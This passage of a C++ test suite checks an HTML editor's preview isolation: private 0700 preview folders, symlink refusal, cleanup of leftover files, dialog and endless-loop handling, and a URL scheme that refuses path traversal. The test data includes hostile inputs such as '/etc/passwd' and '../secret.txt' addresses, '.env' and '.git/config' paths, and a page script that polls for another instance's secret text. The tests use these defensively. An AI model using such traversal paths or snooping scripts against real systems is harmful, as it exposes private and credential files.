        QTest::mouseClick(browser()->focusProxy(), Qt::LeftButton, {}, QPoint(20, 20));
        ASSERT_TRUE(waitUntil([&] {
            return evalJs(browser(), QStringLiteral("navigator.userActivation.hasBeenActive"))
                .toBool();
        }));
    }
    clickTab(0);

    // Every question that comes up is answered Cancel.
    ModalWatch watch;
    ASSERT_TRUE(w->document()->OpenPath(siteA + QStringLiteral("/a.html")));
    editor()->SetText(QStringLiteral("<title>A</title><p>page A</p>"));
    clickTab(1);
    EXPECT_TRUE(waitForPage(browser(), QStringLiteral("A")))
        << "B stayed: " << browser()->title().toStdString();
    EXPECT_EQ(browser()->url().path(QUrl::FullyDecoded), siteA + QStringLiteral("/a.html"));
    EXPECT_NE(browser()->url().host(), hostB);
    EXPECT_EQ(watch.seen, 0) << "no question held the editor up";
    // Long enough for many rounds of B's reading, had it stayed.
    QTest::qWait(1500);
    EXPECT_FALSE(listener.heard.contains(QStringLiteral("A-PRIVATE")))
        << listener.heard.toStdString();
}

INSTANTIATE_TEST_SUITE_P(Pages, PageLeftBehind, ::testing::ValuesIn(kLeftBehindCases),
                         NameFrom<&LeftBehindCase::name>());

TEST_F(PreviewTab, AnotherRunningCopysPageNeverReadsThisOnesPreviewFile) {
    // A second editor of the same user with the same folders, its page (untitled) reading
    // its own address, where a shared preview file would show this one's text.
    auto other = std::make_unique<frmMain>();
    other->preview()->setFolderBases({dir.path()});
    other->show();
    ASSERT_TRUE(QTest::qWaitForWindowExposed(other.get()));
    other->txtCode()->SetText(
        QStringLiteral("<html><head><title>B</title></head><body><script>"
                       "setInterval(function() { var x = new XMLHttpRequest();"
                       "  x.onload = function() { if (x.responseText.indexOf('SECRET-' + 'A') >= 0)"
                       "    document.title = 'read:' + x.responseText; };"
                       "  x.open('GET', location.href); x.send(); }, 10);"
                       "</script></body></html>"));
    clickTab(*other, 1);
    QWebEngineView* otherBrowser = other->preview()->browser();
    ASSERT_TRUE(waitForPage(otherBrowser, QStringLiteral("B")));

    editor()->SetText(QStringLiteral("<title>A</title><p>SECRET-A</p>"));
    clickTab(1);
    ASSERT_TRUE(waitForPage(browser(), QStringLiteral("A")));
    QTest::qWait(1500);
    EXPECT_EQ(otherBrowser->title(), QStringLiteral("B"));

    // Each run's file is its own, in a folder only its user can enter.
    const QString mine = previewFile(), theirs = other->preview()->lastFile();
    ASSERT_FALSE(mine.isEmpty());
    EXPECT_NE(QFileInfo(mine).absolutePath(), QFileInfo(theirs).absolutePath());
    EXPECT_EQ(modeOf(mine), 0600);
    EXPECT_EQ(modeOf(QFileInfo(mine).absolutePath()), 0700);
    EXPECT_EQ(modeOf(dir.path()), 0700);
    if (::geteuid() == 0 && !QStandardPaths::findExecutable(QStringLiteral("runuser")).isEmpty()) {
        // Another user cannot read it, even with the folder's path.
        QProcess cat;
        cat.start(QStringLiteral("runuser"), {QStringLiteral("-u"), QStringLiteral("nobody"),
                                              QStringLiteral("--"), QStringLiteral("cat"), mine});
        ASSERT_TRUE(cat.waitForFinished(20000));
        EXPECT_NE(cat.exitCode(), 0);
        EXPECT_FALSE(cat.readAllStandardOutput().contains("SECRET-A"));
    }
    // Each run's folder goes with it.
    other.reset();
    EXPECT_FALSE(QFileInfo::exists(QFileInfo(theirs).absolutePath()));
    EXPECT_TRUE(QFileInfo::exists(mine));
    w.reset();
    EXPECT_FALSE(QFileInfo::exists(QFileInfo(mine).absolutePath()));
    EXPECT_TRUE(QDir(dir.path()).isEmpty(QDir::AllEntries | QDir::NoDotAndDotDot | QDir::Hidden))
        << QDir(dir.path())
               .entryList(QDir::AllEntries | QDir::NoDotAndDotDot | QDir::Hidden)
               .join(QLatin1Char(' '))
               .toStdString();
}

// The environment variable `name` set to `value` for as long as this lives.
class ScopedEnv {
public:
    ScopedEnv(const char* name, const QString& value) : name_(name), old_(qgetenv(name)) {
        qputenv(name, QFile::encodeName(value));
    }
    ~ScopedEnv() {
        if (old_.isNull())
            qunsetenv(name_);
        else
            qputenv(name_, old_);
    }

private:
    const char* name_;
    QByteArray old_;
};

// Starts preview_run and returns the path it prints.
QString startRun(QProcess& run, const QStringList& args) {
    run.setProcessChannelMode(QProcess::ForwardedErrorChannel);
    run.start(QStringLiteral(VR_PREVIEW_RUN), args);
    if (!run.waitForStarted(20000))
        return QString();
    waitUntil([&] { return run.canReadLine() || run.state() == QProcess::NotRunning; }, 60000);
    return QString::fromLocal8Bit(run.readLine()).trimmed();
}

// Waits for a process to end (true once it has, perhaps already).
bool ended(QProcess& process) {
    return process.state() == QProcess::NotRunning || process.waitForFinished(20000);
}

TEST(PreviewLeftovers, AKilledRunsPreviewFileIsGoneAtTheNextStart) {
    QTemporaryDir home;
    ScopedEnv runtime("XDG_RUNTIME_DIR", home.filePath(QStringLiteral("run")));
    ScopedEnv data("XDG_DATA_HOME", home.filePath(QStringLiteral("data")));
    ASSERT_TRUE(QDir().mkpath(home.filePath(QStringLiteral("run"))));
    ASSERT_EQ(::chmod(QFile::encodeName(home.filePath(QStringLiteral("run"))).constData(), 0700),
              0);

    QProcess run;
    const QString copy = startRun(run, {QStringLiteral("--show"), QStringLiteral("CHILD-TEXT")});
    ASSERT_TRUE(copy.startsWith(home.filePath(QStringLiteral("run")) + QLatin1Char('/')))
        << copy.toStdString();
    ASSERT_TRUE(waitUntil([&] { return readBytes(copy) == "CHILD-TEXT"; }));
    EXPECT_EQ(modeOf(copy), 0600);
    EXPECT_EQ(modeOf(QFileInfo(copy).absolutePath()), 0700);
    ::kill(pid_t(run.processId()), SIGKILL);
    ASSERT_TRUE(ended(run));
    ASSERT_TRUE(QFileInfo::exists(copy)) << "a killed run leaves its file behind";

    // The next start clears it away, its folder and lock with it.
    {
        frmMain next;
        EXPECT_FALSE(QFileInfo::exists(copy));
        EXPECT_FALSE(QFileInfo::exists(QFileInfo(copy).absolutePath()));
        EXPECT_FALSE(QFileInfo::exists(QFileInfo(copy).absolutePath() + QStringLiteral(".lock")));
    }
}

TEST(PreviewLeftovers, OnlyWhatEndedRunsLeftIsRemoved) {
    QTemporaryDir base, outside;
    QProcess dead, deadAlone;
    const QString left = startRun(dead, {QStringLiteral("--leave"), base.path()});
    const QString leftAlone = startRun(deadAlone, {QStringLiteral("--leave"), base.path()});
    ASSERT_TRUE(ended(dead) && ended(deadAlone));
    ASSERT_TRUE(QFileInfo::exists(left) && QFileInfo::exists(leftAlone));
    // A lock whose folder is already gone.
    const QString aloneFolder = QFileInfo(leftAlone).absolutePath();
    ASSERT_TRUE(QDir(aloneFolder).removeRecursively());
    ASSERT_TRUE(QFileInfo::exists(aloneFolder + QStringLiteral(".lock")));
    // A run still going, and a link leading out.
    PreviewFolder live({base.path()});
    QString error;
    ASSERT_TRUE(live.writeFile(QStringLiteral("meh.html"), "live", &error)) << error.toStdString();
    ASSERT_TRUE(writeBytes(outside.filePath(QStringLiteral("keep.txt")), "keep"));
    ASSERT_TRUE(QFile::link(outside.path(), base.filePath(QStringLiteral("1-link"))));

    PreviewFolder::removeLeftovers(base.path());
    EXPECT_FALSE(QFileInfo::exists(QFileInfo(left).absolutePath()));
    EXPECT_FALSE(QFileInfo::exists(QFileInfo(left).absolutePath() + QStringLiteral(".lock")));
    EXPECT_FALSE(QFileInfo::exists(aloneFolder + QStringLiteral(".lock")));
    EXPECT_EQ(readBytes(live.path() + QStringLiteral("/meh.html")), "live");
    EXPECT_EQ(readBytes(outside.filePath(QStringLiteral("keep.txt"))), "keep");
}

// Where the run's private folder goes, by the state of the folders offered for it.
struct FolderCase {
    const char* name;
    const char* first;  // what the first folder offered is: "missing", "loose" (0755),
                        // "link", "file" or "foreign" (another user's)
    const char* second; // the same for the second one
    int used;           // which one holds the private folder: 0, 1, or -1 for none
};

const FolderCase kFolderCases[] = {
    {"MissingFolderIsMade", "missing", "missing", 0},
    {"LooseFolderIsClosed", "loose", "missing", 0},
    {"LinkIsNotFollowed", "link", "missing", 1},
    {"FileIsPassedOver", "file", "missing", 1},
    {"AnotherUsersFolderIsPassedOver", "foreign", "missing", 1},
    {"NoUsableFolder", "file", "link", -1},
};

void PrintTo(const FolderCase& c, std::ostream* os) {
    *os << c.name;
}

class PrivateFolder : public ::testing::TestWithParam<FolderCase> {};

TEST_P(PrivateFolder, HoldsThePreviewFileForNoOneElse) {
    const FolderCase& c = GetParam();
    QTemporaryDir top;
    const QString elsewhere = top.filePath(QStringLiteral("elsewhere"));
    ASSERT_TRUE(QDir().mkpath(elsewhere));
    QStringList bases;
    for (const char* kind : {c.first, c.second}) {
        const QString base = top.filePath(QStringLiteral("base%1").arg(bases.size()));
        const QByteArray k = kind;
        if (k == "loose") {
            ASSERT_TRUE(QDir().mkpath(base));
            ASSERT_EQ(::chmod(QFile::encodeName(base).constData(), 0755), 0);
        } else if (k == "link") {
            ASSERT_TRUE(QFile::link(elsewhere, base));
        } else if (k == "file") {
            ASSERT_TRUE(writeBytes(base, "x"));
        } else if (k == "foreign") {
            if (::geteuid() != 0)
                GTEST_SKIP() << "only root can give a folder to another user";
            ASSERT_TRUE(QDir().mkpath(base));
            ASSERT_EQ(::chown(QFile::encodeName(base).constData(), 65534, 65534), 0);
        }
        bases << base;
    }
    QString folderPath;
    {
        PreviewFolder folder(bases);
        QString error;
        folderPath = folder.path(&error);
        if (c.used < 0) {
            EXPECT_TRUE(folderPath.isEmpty());
            EXPECT_FALSE(error.isEmpty());
            EXPECT_FALSE(folder.writeFile(QStringLiteral("meh.html"), "x", &error));
            EXPECT_TRUE(QDir(elsewhere).isEmpty());
            return;
        }
        ASSERT_EQ(QFileInfo(folderPath).absolutePath(), bases[c.used]);
        EXPECT_EQ(modeOf(bases[c.used]), 0700);
        EXPECT_EQ(modeOf(folderPath), 0700);
        EXPECT_TRUE(QFileInfo(folderPath)
                        .fileName()
                        .startsWith(QString::number(QCoreApplication::applicationPid()) +
                                    QLatin1Char('-')));
        EXPECT_TRUE(QDir(elsewhere).isEmpty()) << "nothing went through a link";

        const QString file = folderPath + QStringLiteral("/meh.html");
        ASSERT_TRUE(folder.writeFile(QStringLiteral("meh.html"), "first text", &error));
        ASSERT_TRUE(folder.writeFile(QStringLiteral("meh.html"), "second", &error));
        EXPECT_EQ(readBytes(file), "second");
        EXPECT_EQ(modeOf(file), 0600);
        // A link put in the file's place is not written through.
        ASSERT_TRUE(QFile::remove(file));
        const QString target = elsewhere + QStringLiteral("/target");
        ASSERT_TRUE(writeBytes(target, "untouched"));
        ASSERT_TRUE(QFile::link(target, file));
        EXPECT_FALSE(folder.writeFile(QStringLiteral("meh.html"), "through", &error));
        EXPECT_EQ(readBytes(target), "untouched");
    }
    EXPECT_FALSE(QFileInfo::exists(folderPath)) << "the folder goes with its run";
    EXPECT_FALSE(QFileInfo::exists(folderPath + QStringLiteral(".lock")));
}

INSTANTIATE_TEST_SUITE_P(Folders, PrivateFolder, ::testing::ValuesIn(kFolderCases),
                         NameFrom<&FolderCase::name>());

// ---- pages that would hold the editor up --------------------------------------------------

// A page's dialogs, many in a row: each is answered at once, the page goes on, the line
// above it tells what it asked, and the editor is never blocked.
struct DialogCase {
    const char* name;
    const char* call; // a script expression; its value is the answer shown in the title
    const char* answer;
    const char* notice;
};

const DialogCase kDialogCases[] = {
    {"Alert", "alert('hello')", "undefined", "The page says: hello (and 299 more)"},
    {"Confirm", "confirm('sure?')", "false",
     "The page asks: sure? (answered Cancel) (and 299 more)"},
    {"Prompt", "prompt('name?', 'ann')", "null",
     "The page asks: name? (answered Cancel) (and 299 more)"},
};

void PrintTo(const DialogCase& c, std::ostream* os) {
    *os << c.name;
}

class PageDialog : public PreviewTab, public ::testing::WithParamInterface<DialogCase> {};

TEST_P(PageDialog, IsAnsweredAtOnceAndToldAboveThePage) {
    const DialogCase& c = GetParam();
    ModalWatch watch;
    editor()->SetText(QStringLiteral("<title>start</title><script>onload = function() {"
                                     "  var r; for (var i = 0; i < 300; ++i) r = %1;"
                                     "  document.title = 'answer:' + r; };</script>")
                          .arg(QString::fromLatin1(c.call)));
    clickTab(1);
    ASSERT_TRUE(
        waitUntil([&] { return browser()->title().startsWith(QStringLiteral("answer:")); }, 30000))
        << browser()->title().toStdString();
    EXPECT_EQ(browser()->title(), QStringLiteral("answer:") + QString::fromLatin1(c.answer));
    EXPECT_TRUE(waitUntil([&] { return notice(browser()) == QString::fromLatin1(c.notice); }))
        << notice(browser()).toStdString();
    EXPECT_EQ(watch.seen, 0);
    // The next page starts without the line.
    editor()->SetText(QStringLiteral("<title>quiet</title>"));
    clickTab(1);
    ASSERT_TRUE(waitForPage(browser(), QStringLiteral("quiet")));
    EXPECT_TRUE(notice(browser()).isEmpty());
}

INSTANTIATE_TEST_SUITE_P(Dialogs, PageDialog, ::testing::ValuesIn(kDialogCases),
                         NameFrom<&DialogCase::name>());

TEST_F(PreviewTab, AnEndlessAlertLoopLeavesTheEditorUsableAndIsStopped) {
    ModalWatch watch;
    const QString file = path("page.html");
    ASSERT_TRUE(writeBytes(file, ""));
    ASSERT_TRUE(w->document()->OpenPath(file));
    const QString text = QStringLiteral("<title>loop</title><script>onload = function() {"
                                        " for (var i = 0; ; ++i) alert('again ' + i); };</script>");
    editor()->SetText(text);
    clickTab(1);
    ASSERT_TRUE(waitUntil(
        [&] { return notice(browser()).startsWith(QStringLiteral("The page says: again 0")); },
        30000))
        << notice(browser()).toStdString();
    // While the page goes on: the menus work, Save writes the file, the Code tab comes
    // back and takes typing.
    EXPECT_TRUE(w->isEnabled());
    trigger("mnuSave");
    EXPECT_EQ(readBytes(file), text.toUtf8());
    EXPECT_FALSE(editor()->Modified());
    clickTab(0);
    editor()->setFocus();
    editor()->SetSelStart(0);
    QTest::keyClicks(editor(), QStringLiteral("ok"));
    EXPECT_TRUE(editor()->Text().startsWith(QStringLiteral("ok<title>")));
    EXPECT_EQ(watch.seen, 0) << "no alert held the editor up";
    // The page never gets back to its renderer's own work: it is stopped.
    clickTab(1);
    EXPECT_TRUE(waitUntil(
        [&] { return notice(browser()).contains(QStringLiteral("stopped answering")); }, 90000))
        << notice(browser()).toStdString();
}

// A page that keeps its renderer busy for good: it is stopped and the next preview shows.
struct SpinCase {
    const char* name;
    const char* page;
    bool waitForTheWatch; // false: the next preview comes before the page is taken for hung
};

const SpinCase kSpinCases[] = {
    {"EndlessLoopAfterLoading",
     "<title>spin</title><script>onload = function() {"
     " setTimeout(function() { for (;;) {} }, 0); };</script>",
     true},
    {"EndlessLoopWhileLoading", "<title>spin</title><p>x</p><script>for (;;) {}</script>", true},
    {"NextPreviewBeforeThePageIsTakenForHung",
     "<title>spin</title><script>onload = function() {"
     " setTimeout(function() { for (;;) {} }, 0); };</script>",
     false},
};

void PrintTo(const SpinCase& c, std::ostream* os) {
    *os << c.name;
}

class SpinningPage : public PreviewTab, public ::testing::WithParamInterface<SpinCase> {};

TEST_P(SpinningPage, IsStoppedAndTheNextPreviewShows) {
    const SpinCase& c = GetParam();
    editor()->SetText(QString::fromLatin1(c.page));
    clickTab(1);
    qint64 pid = 0;
    ASSERT_TRUE(waitUntil([&] { return (pid = browser()->page()->renderProcessPid()) > 0; }));
    if (c.waitForTheWatch) {
        EXPECT_TRUE(waitUntil(
            [&] { return notice(browser()).contains(QStringLiteral("stopped answering")); },
            90000));
    } else {
        QTest::qWait(PreviewBrowser::kBusyMs + 1000);
    }
    editor()->SetText(QStringLiteral("<title>fixed</title><p>fixed</p>"));
    clickTab(1);
    EXPECT_TRUE(waitForPage(browser(), QStringLiteral("fixed")))
        << browser()->title().toStdString();
    EXPECT_NE(browser()->page()->renderProcessPid(), pid) << "a fresh renderer";
    EXPECT_TRUE(waitUntil([&] { return ::kill(pid_t(pid), 0) != 0; }))
        << "the spinning renderer is gone";
}

INSTANTIATE_TEST_SUITE_P(Pages, SpinningPage, ::testing::ValuesIn(kSpinCases),
                         NameFrom<&SpinCase::name>());

// A synchronous request the scheme refuses is answered all the same.
struct SyncRequestCase {
    const char* name;
    const char* address;
};

const SyncRequestCase kSyncRequests[] = {
    {"ProtocolRelativeAddress", "//etc/passwd"},
    {"AnotherHost", "verrindel-preview://etc/etc/passwd"},
    {"OwnHostOutsideTheFolder", "/etc/passwd"},
    {"MissingFileInTheFolder", "none.txt"},
};

void PrintTo(const SyncRequestCase& c, std::ostream* os) {
    *os << c.address;
}

class SyncRequest : public SavedSite, public ::testing::WithParamInterface<SyncRequestCase> {};

TEST_P(SyncRequest, IsAnsweredEvenWhenRefused) {
    editor()->SetText(QStringLiteral("<title>start</title><script>"
                                     "var x = new XMLHttpRequest();"
                                     "try { x.open('GET', '%1', false); x.send();"
                                     "  document.title = 'status ' + x.status + ' ' +"
                                     "    x.responseText.length; }"
                                     "catch (e) { document.title = 'refused'; }</script>")
                          .arg(QString::fromLatin1(GetParam().address)));
    clickTab(1);
    ASSERT_TRUE(waitUntil(
        [&] {
            return browser()->title() != QStringLiteral("start") && !browser()->title().isEmpty() &&
                   !browser()->title().contains(QStringLiteral("index"));
        },
        30000))
        << browser()->title().toStdString();
    const QString t = browser()->title();
    EXPECT_TRUE(t == QStringLiteral("refused") || t.startsWith(QStringLiteral("status 404")) ||
                t == QStringLiteral("status 0 0"))
        << t.toStdString();
}

INSTANTIATE_TEST_SUITE_P(Addresses, SyncRequest, ::testing::ValuesIn(kSyncRequests),
                         NameFrom<&SyncRequestCase::name>());

} // namespace

namespace {

// Which request paths the scheme serves from a document's folder tree.
struct ResolveCase {
    const char* name;
    const char* path;   // %SITE% the document's folder, %OUT% the folder around it
    const char* served; // the file served, relative to %SITE%, or nullptr for none
};

const ResolveCase kResolveCases[] = {
    {"FileInFolder", "%SITE%/meh.html", "meh.html"},
    {"FileInSubfolder", "%SITE%/img/a.png", "img/a.png"},
    {"DotSegmentsStayingInside", "%SITE%/img/./../meh.html", "meh.html"},
    {"LinkStayingInside", "%SITE%/inner/a.png", "img/a.png"},
    {"ParentThroughDotDot", "%SITE%/../secret.txt", nullptr},
    {"DeeperDotDot", "%SITE%/img/../../secret.txt", nullptr},
    {"DotDotAfterMissingFolder", "%SITE%/none/../../secret.txt", nullptr},
    {"LinkLeadingOut", "%SITE%/escape/secret.txt", nullptr},
    {"LinkToAFileOutside", "%SITE%/secret-link.txt", nullptr},
    {"SiblingFolderWithTheSamePrefix", "%OUT%/site-old/a.png", nullptr},
    {"FolderItself", "%SITE%", nullptr},
    {"AFolderInside", "%SITE%/img", nullptr},
    {"FileSystemRoot", "/", nullptr},
    {"MissingFile", "%SITE%/none.png", nullptr},
    {"HiddenFolder", "%SITE%/.git/config", nullptr},
    {"HiddenFile", "%SITE%/.env", nullptr},
    {"NamedPipe", "%SITE%/pipe", nullptr},
    {"RelativePath", "meh.html", nullptr},
    {"NulCharacter", "%SITE%/meh.html\\0.png", nullptr},
};

void PrintTo(const ResolveCase& c, std::ostream* os) {
    *os << c.path;
}

class PreviewScheme : public ::testing::TestWithParam<ResolveCase> {};

TEST_P(PreviewScheme, ServesOnlyRegularFilesInsideTheDocumentsFolderTree) {
    QTemporaryDir out;
    const QString site = out.filePath(QStringLiteral("site"));
    for (const char* folder : {"img", ".git"})
        ASSERT_TRUE(QDir(site).mkpath(QString::fromLatin1(folder)));
    ASSERT_TRUE(QDir(out.path()).mkpath(QStringLiteral("site-old")));
    for (const char* name : {"site/meh.html", "site/img/a.png", "site/.git/config", "site/.env",
                             "secret.txt", "site-old/a.png"})
        ASSERT_TRUE(writeBytes(out.filePath(QString::fromLatin1(name)), "x"));
    ASSERT_TRUE(QFile::link(out.path(), site + QStringLiteral("/escape")));
    ASSERT_TRUE(QFile::link(out.filePath(QStringLiteral("secret.txt")),
                            site + QStringLiteral("/secret-link.txt")));
    ASSERT_TRUE(QFile::link(site + QStringLiteral("/img"), site + QStringLiteral("/inner")));
    ASSERT_EQ(::mkfifo(QFile::encodeName(site + QStringLiteral("/pipe")).constData(), 0600), 0);

    const ResolveCase& c = GetParam();
    const QString path = QString::fromLatin1(c.path)
                             .replace(QStringLiteral("%SITE%"), site)
                             .replace(QStringLiteral("%OUT%"), out.path())
                             .replace(QStringLiteral("\\0"), QString(QChar(0)));
    const QString expected =
        c.served
            ? QFileInfo(site + QLatin1Char('/') + QString::fromLatin1(c.served)).canonicalFilePath()
            : QString();
    EXPECT_EQ(PreviewSchemeHandler::resolve(site, path), expected);
    EXPECT_TRUE(PreviewSchemeHandler::resolve(QString(), path).isEmpty())
        << "an untitled document has no folder";
}

INSTANTIATE_TEST_SUITE_P(Paths, PreviewScheme, ::testing::ValuesIn(kResolveCases),
                         NameFrom<&ResolveCase::name>());

TEST(PreviewSchemeUrl, APageSitsAtItsDocumentsOwnPathWhateverTheName) {
    for (const QString& path :
         {QStringLiteral("/home/ann/site/index.html"), QStringLiteral("/tmp/a b/#1 100%.html"),
          QStringLiteral("/tmp/caf\u00e9/\u65e5\u672c.htm"), QStringLiteral("/tmp/q?x=1.html")}) {
        const QUrl url = PreviewSchemeHandler::pageUrl(path);
        EXPECT_EQ(url.scheme(), QStringLiteral("verrindel-preview"));
        EXPECT_EQ(url.path(QUrl::FullyDecoded), path) << url.toString().toStdString();
        EXPECT_TRUE(url.query().isEmpty() && url.fragment().isEmpty()) << path.toStdString();
    }
    EXPECT_EQ(PreviewSchemeHandler::pageUrl(QStringLiteral("/tmp/x/../site/./a.html"))
                  .path(QUrl::FullyDecoded),
              QStringLiteral("/tmp/site/a.html"));
    EXPECT_EQ(PreviewSchemeHandler::pageUrl(QString()).path(), QStringLiteral("/meh.html"));
}

} // namespace
